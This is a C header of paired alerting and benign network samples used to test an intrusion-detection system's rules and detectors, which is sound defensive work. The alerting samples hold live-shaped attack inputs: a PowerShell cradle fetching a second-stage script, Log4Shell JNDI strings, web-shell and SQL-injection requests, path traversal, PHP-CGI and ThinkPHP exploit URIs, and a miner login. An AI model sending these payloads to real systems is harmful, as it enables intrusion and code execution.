/*
 * defrules_samples.h: a sample per shipped traffic rule and detector and
 * a benign sample of the same shape, for test_defrules.c (through a
 * netsensor) and tools/vigil-netgen.c (as pcap files for
 * integration/pcap_cli.sh). Adding a rule to rules/traffic means adding
 * a row to rule_cases: test_defrules fails until it has one.
 *
 * rule_cases: the sid, a sample on which exactly that rule alerts, a
 * benign one on which nothing alerts. det_cases: the same for the
 * detectors (gid 4), as functions that play frames (the sensor runs
 * with the gateway 192.168.1.1 at GW_MAC).
 */
#ifndef VIGIL_DEFRULES_SAMPLES_H
#define VIGIL_DEFRULES_SAMPLES_H

#include <stdbool.h>
#include <stdint.h>

#include "detectors.h"
#include "netplay.h"

/* Who is who: the office is 192.168.1.0/24 (in the default HOME_NET);
 * the internet is documentation space (RFC 5737). */
#define PC		"192.168.1.30"	/* a staff PC */
#define PC2		"192.168.1.31"
#define NAS		"192.168.1.5"	/* a file server */
#define WEB		"192.168.1.80"	/* the office's web server */
#define CAM		"192.168.1.50"	/* a camera recorder */
#define GW		"192.168.1.1"	/* the router, gateway, resolver */
#define ATT		"198.51.100.20"	/* someone on the internet */
#define OUT		"203.0.113.66"	/* a server on the internet */

static const uint8_t	gw_mac[6] = { 0x02, 0, 0, 0, 0, 0xfe };

/* ---- samples ---- */

#define TCPS(c, s, p, u, d) { .shape = NP_TCP, .cli = (c), .srv = (s), \
	.port = (p), .up = NP_B(u), .down = NP_B(d) }
#define HTTP(c, s, ...) { .shape = NP_HTTP, .cli = (c), .srv = (s), \
	.port = 80, .http = { __VA_ARGS__ } }
#define DNSQ(n) { .shape = NP_DNS, .cli = PC, .srv = GW, .port = 53, \
	.name = (n) }

/* SMB over TCP: the NetBIOS session header (4 bytes), then the SMB
 * header; only as much as the rules and parsers look at. */
#define SMB2_NEGOTIATE	"\x00\x00\x00\x44\xfeSMB\x40\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\x00\x00"
#define SMB1_NEGOTIATE	"\x00\x00\x00\x2f\xffSMB\x72\x00\x00\x00\x00" \
			"\x18\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00" \
			"\x00\x0c\x00\x02NT LM 0.12\x00"
#define SMB1_ACCEPT	"\x00\x00\x00\x55\xffSMB\x72\x00\x00\x00\x00" \
			"\x98\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00" \
			"\x11\x00\x00"
#define SMB2_ACCEPT	"\x00\x00\x00\x80\xfeSMB\x40\x00\x00\x00" \
			"\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00"
/* TPKT, X.224 Connection Request with mstshash cookie, RDP_NEG_REQ */
#define RDP_CR		"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00" \
			"Cookie: mstshash=admin\r\n" \
			"\x01\x00\x08\x00\x03\x00\x00\x00"
#define TELNET_PROMPT	"\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01\r\n" \
			"DVR login: "
#define JNDI		"${jndi:ldap://198.51.100.9:1389/Basic/Command/a}"
#define CRADLE		"IEX (New-Object Net.WebClient).DownloadString(" \
			"'http://cdn.example.org/stage2.ps1')"
#define XMRIG_LOGIN	"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\"," \
			"\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ" \
			"9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ" \
			"4fhdUyZijBGUicoD\",\"pass\":\"x\",\"agent\":\"XMRig/" \
			"6.21.0 (Windows NT 10.0; Win64; x64) libuv/1.44.2 " \
			"msvc/2019\",\"algo\":[\"rx/0\"]}}\n"

struct rule_case {
	uint32_t		 sid;
	struct np_sample	 hit, quiet;
};

static const struct rule_case rule_cases[] = {
	/* vigil-exposure.rules */
	{ 9100001, TCPS(ATT, NAS, 445, SMB2_NEGOTIATE, ""),
	    TCPS(PC, NAS, 445, SMB2_NEGOTIATE, "") },
	{ 9100002, TCPS(PC, OUT, 445, SMB2_NEGOTIATE, ""),
	    TCPS(PC, NAS, 445, SMB2_NEGOTIATE, "") },
	{ 9100003, TCPS(PC, NAS, 445, SMB1_NEGOTIATE, SMB1_ACCEPT),
	    TCPS(PC, NAS, 445, SMB1_NEGOTIATE, SMB2_ACCEPT) },
	{ 9100004, TCPS(ATT, PC, 3389, RDP_CR, ""),
	    TCPS(PC2, PC, 3389, RDP_CR, "") },
	{ 9100005, TCPS(ATT, CAM, 23, "", TELNET_PROMPT),
	    TCPS(PC, CAM, 23, "", TELNET_PROMPT) },
	{ 9100006, TCPS(PC, OUT, 23, "", TELNET_PROMPT),
	    TCPS(PC, CAM, 23, "", TELNET_PROMPT) },
	{ 9100007, TCPS(PC, OUT, 21, "PASS Thang12@2024\r\n", ""),
	    TCPS(PC, NAS, 21, "PASS Thang12@2024\r\n", "") },

	/* vigil-web.rules */
	{ 9100101, HTTP(ATT, WEB, .uri = "/uploads/x.php?cmd=whoami"),
	    HTTP(ATT, WEB, .uri = "/index.php?subcmd=list&page=2") },
	{ 9100102, HTTP(ATT, WEB, .uri = "/index.php?x=eval%28base64_decode"
	    "%28%27ZWNobyAxOw%3D%3D%27%29%29%3B"),
	    HTTP(ATT, WEB, .uri = "/docs/php-base64_decode-example.html") },
	{ 9100103, HTTP(ATT, WEB, .method = "POST",
	    .uri = "/wp-content/themes/twentyten/404.php",
	    .hdrs = "Content-Type: application/x-www-form-urlencoded\r\n",
	    .body = "z=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAx"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/comment.php",
	    .hdrs = "Content-Type: application/x-www-form-urlencoded\r\n",
	    .body = "text=how+to+use+base64_decode+in+php") },
	{ 9100104, HTTP(ATT, WEB, .uri = "/wp-content/uploads/2024/05/ab.php"),
	    HTTP(ATT, WEB, .uri = "/wp-content/uploads/2024/05/photo.jpg") },
	{ 9100105, HTTP(ATT, WEB, .uri = "/images/wso.php"),
	    HTTP(ATT, WEB, .uri = "/images/wsorder.php") },
	{ 9100106, HTTP(ATT, WEB,
	    .uri = "/download.php?file=../../../../windows/win.ini"),
	    HTTP(ATT, WEB, .uri = "/docs/../index.html") },
	{ 9100107, HTTP(ATT, WEB,
	    .uri = "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh"),
	    HTTP(ATT, WEB, .uri = "/files/report%20v2.pdf") },
	{ 9100108, HTTP(ATT, WEB, .uri = "/index.php?page=/etc/passwd"),
	    HTTP(ATT, WEB, .uri = "/index.php?page=/etc/about") },
	{ 9100109, HTTP(ATT, WEB, .uri = "/news.php?id=1+UNION+ALL+SELECT+"
	    "1,2,concat(user(),0x3a,database())--+-"),
	    HTTP(ATT, WEB,
	    .uri = "/search.php?q=union+members+select+a+plan") },
	{ 9100110, HTTP(ATT, WEB,
	    .uri = "/login.php?user=admin%27%20OR%201=1--&pass=x"),
	    HTTP(ATT, WEB, .uri = "/search.php?q=rock'n'roll+or+1+more") },
	{ 9100111, HTTP(ATT, WEB, .uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F"
	    "198.51.100.9%3A1389%2Fa%7D"),
	    HTTP(ATT, WEB, .uri = "/?x=%24%7Bprice%7D") },
	{ 9100112, HTTP(ATT, WEB, .uri = "/", .hdrs = "X-Api-Version: "
	    JNDI "\r\n"),
	    HTTP(ATT, WEB, .uri = "/", .hdrs = "X-Api-Version: ${ver}\r\n") },
	{ 9100113, HTTP(ATT, WEB, .uri = "/", .hdrs = "Cookie: session="
	    JNDI "\r\n"),
	    HTTP(ATT, WEB, .uri = "/", .hdrs = "Cookie: session=4f2a\r\n") },
	{ 9100114, HTTP(ATT, WEB, .method = "POST", .uri = "/api/login",
	    .hdrs = "Content-Type: application/json\r\n",
	    .body = "{\"user\":\"" JNDI "\",\"pass\":\"x\"}"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/api/login",
	    .hdrs = "Content-Type: application/json\r\n",
	    .body = "{\"user\":\"lan\",\"pass\":\"x\"}") },
	{ 9100115, HTTP(ATT, WEB, .method = "POST",
	    .uri = "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+"
	    "auto_prepend_file%3Dphp://input", .body = "<?php echo 1; ?>"),
	    HTTP(ATT, WEB, .method = "POST", .uri = "/php-cgi/info.php?d=1",
	    .body = "a=1") },
	{ 9100116, HTTP(ATT, WEB, .uri = "/index.php?s=/Index/\\think\\app/"
	    "invokefunction&function=call_user_func_array&vars[0]=md5&"
	    "vars[1][]=HelloThinkPHP"),
	    HTTP(ATT, WEB, .uri = "/index.php?s=/index/news/list&page=2") },

	/* vigil-tools.rules */
	{ 9100201, HTTP(ATT, WEB, .uri = "/news.php?id=1",
	    .ua = "sqlmap/1.7.2#stable (https://sqlmap.org)"),
	    HTTP(ATT, WEB, .uri = "/news.php?id=1") },
	{ 9100202, HTTP(ATT, WEB, .uri = "/",
	    .ua = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
	    HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (Nikon D750)") },
	{ 9100203, HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (compatible; "
	    "Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
	    HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 (compatible; "
	    "Googlebot/2.1; +http://www.google.com/bot.html)") },
	{ 9100204, HTTP(ATT, WEB, .uri = "/", .ua = "Mozilla/5.0 zgrab/0.x"),
	    HTTP(PC, OUT, .uri = "/", .ua = "Mozilla/5.0 zgrab/0.x") },
	{ 9100205, HTTP(PC, OUT, .uri = "/files/invoice.exe"),
	    HTTP(PC, OUT, .uri = "/files/setup.exe",
	    .host = "download.example.com") },
	{ 9100206, HTTP(PC, OUT, .uri = "/bins/x.arm7", .ua = "Wget/1.21.3"),
	    HTTP(PC, OUT, .uri = "/debian/dists/bookworm/Release",
	    .host = "deb.debian.org", .ua = "Wget/1.21.3") },
	{ 9100207, HTTP(PC, OUT, .uri = "/update.txt", .host = "example.com",
	    .ua = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) "
	    "WindowsPowerShell/5.1.19041.4648"),
	    HTTP(PC, OUT, .uri = "/update.txt", .host = "example.com") },
	{ 9100208, HTTP(PC, OUT, .uri = "/a/payload.exe",
	    .host = "files.example.net", .ua = "Microsoft-CryptoAPI/10.0"),
	    HTTP(PC, OUT, .uri = "/pki/crl/ca.crl", .host = "files.example.net",
	    .ua = "Microsoft-CryptoAPI/10.0") },
	{ 9100209, HTTP(PC, OUT, .uri = "/news", .host = "cdn.example.org",
	    .resp = CRADLE),
	    HTTP(PC, OUT, .uri = "/news", .host = "cdn.example.org",
	    .resp = "$wc = New-Object Net.WebClient; $wc.Proxy = $null") },

	/* vigil-services.rules */
	{ 9100301, DNSQ("myrat2024.duckdns.org"), DNSQ("notduckdns.org") },
	{ 9100302, DNSQ("c2.ddns.net"), DNSQ("myddns.net") },
	{ 9100303, DNSQ("3b7e-113-160-1-2.ngrok-free.app"), DNSQ("ngrok.com") },
	{ 9100304, DNSQ("quick-brown-fox-jumps.trycloudflare.com"),
	    DNSQ("www.cloudflare.com") },
	{ 9100305, DNSQ("lockbitapt2d73krlbewgv27tquljgxr33xbwwsp6rkyieto7u4nc"
	    "id.onion"), DNSQ("www.onion.com.vn") },
	{ 9100306,
	    HTTP(PC, OUT, .uri = "/raw/LnW0dq4V", .host = "pastebin.com"),
	    HTTP(PC, OUT, .uri = "/LnW0dq4V", .host = "pastebin.com") },

	/* vigil-mining.rules */
	{ 9100401, TCPS(PC, OUT, 3333, "{\"id\":1,\"method\":\"mining.subscribe"
	    "\",\"params\":[\"cpuminer/2.5.1\"]}\n", ""),
	    TCPS(PC, OUT, 3333, "{\"id\":1,\"method\":\"status\",\"params\":"
	    "[\"mining.example\"]}\n", "") },
	{ 9100402, TCPS(PC, OUT, 14444, XMRIG_LOGIN, ""),
	    TCPS(PC, OUT, 14444, "{\"id\":1,\"method\":\"auth\",\"params\":"
	    "{\"login\":\"lan\",\"agent\":\"app/1.0\"}}\n", "") },
};

/* ---- detectors ---- */

/* Plays n of something (probes, connections, names) involving port. */
typedef void play_fn(struct netplay *, unsigned n, uint16_t port);

/* Refused connections from PC2 to n ports of NAS. */
static inline void
scan_ports(struct netplay *p, unsigned n, uint16_t port)
{
	unsigned	i;

	for (i = 0; i < n; i++)
		netplay_probe(p, PC2, NAS, (uint16_t)(port + i * 7), true);
}

/* Unanswered SYNs from PC2 to port on n hosts. */
static inline void
scan_hosts(struct netplay *p, unsigned n, uint16_t port)
{
	char		host[32];
	unsigned	i;

	for (i = 0; i < n; i++) {
		netplay_fmt(host, sizeof(host), "192.168.1.%u", 100 + i);
		netplay_probe(p, PC2, host, port, false);
	}
}

/* n connections from PC2 to NAS's port, one every half second. */
static inline void
connect_n(struct netplay *p, unsigned n, uint16_t port)
{
	unsigned	i;

	for (i = 0; i < n; i++) {
		netplay_tcp(p, PC2, NAS, port, NULL, 0, NULL, 0);
		netplay_wait(p, 500000);
	}
}

/* Names under one parent from PC: tunnelled data (long, random) for
 * qtype A, or a site's usual host names for TXT. */
static inline void
dns_names(struct netplay *p, unsigned n, uint16_t qtype)
{
	static const char	b32[] = "abcdefghijklmnopqrstuvwxyz234567";
	char			name[128];
	uint32_t		x = 2463534242u;
	unsigned		i, j;

	for (i = 0; i < n; i++) {
		if (qtype == 1) {
			for (j = 0; j < 52; j++) {
				x ^= x << 13;
				x ^= x >> 17;
				x ^= x << 5;
				name[j] = b32[x % 32];
			}
			memcpy(name + 52, ".t.exfil-example.com", 21);
		} else
			netplay_fmt(name, sizeof(name),
			    "img%u.static.exfil-example.com", i);
		netplay_dns_type(p, PC, GW, name, qtype, true);
	}
}

/* n tunnel names among 40 look-ups of a site's usual names (TXT). */
static inline void
dns_tunnel(struct netplay *p, unsigned n, uint16_t unused)
{
	dns_names(p, 40, 16);
	dns_names(p, n, 1);
}

static inline void
dns_txt(struct netplay *p, unsigned n, uint16_t unused)
{
	dns_names(p, n, 16);
}

/* The gateway announces itself; then with n, another MAC claims its
 * address; without, another host announces its own. */
static inline void
arp_spoof(struct netplay *p, unsigned n, uint16_t unused)
{
	static const uint8_t	other[6] = { 0x02, 0, 0, 0, 0, 0x66 };

	netplay_arp_reply(p, gw_mac, GW, PC);
	netplay_arp_reply(p, other, n > 0 ? GW : PC2, PC);
}

/* A browser: many connections to many hosts, all answered. The benign
 * runs add it to each detector's quiet sample. */
static inline void
browse(struct netplay *p)
{
	char		host[32];
	unsigned	i;

	for (i = 0; i < 40; i++) {
		netplay_fmt(host, sizeof(host), "203.0.113.%u", 10 + i);
		netplay_tcp(p, PC, host, i % 2 ? 443 : 80, NULL, 0, NULL, 0);
	}
}

/* Thresholds (docs/detectors.md): 15 ports, 25 hosts, 10/10/20/10
 * connections, 20 tunnel names, 50 TXT queries, one spoofed reply. */
static const struct det_case {
	uint32_t	 sid;
	play_fn		*play;
	unsigned	 hit, quiet;
	uint16_t	 port;
} det_cases[] = {
	{ DET_SID_SCAN_PORTS, scan_ports, 20, 10, 1000 },
	{ DET_SID_SCAN_HOSTS, scan_hosts, 30, 12, 445 },
	{ DET_SID_BRUTE_SSH, connect_n, 12, 4, 22 },
	{ DET_SID_BRUTE_RDP, connect_n, 12, 3, 3389 },
	{ DET_SID_BRUTE_SMB, connect_n, 25, 12, 445 },
	{ DET_SID_BRUTE_FTP, connect_n, 12, 5, 21 },
	{ DET_SID_DNS_TUNNEL, dns_tunnel, 25, 0, 0 },
	{ DET_SID_DNS_TXT, dns_txt, 55, 30, 0 },	/* mail: SPF, DKIM */
	{ DET_SID_ARP_GATEWAY, arp_spoof, 1, 0, 0 },
};

#endif
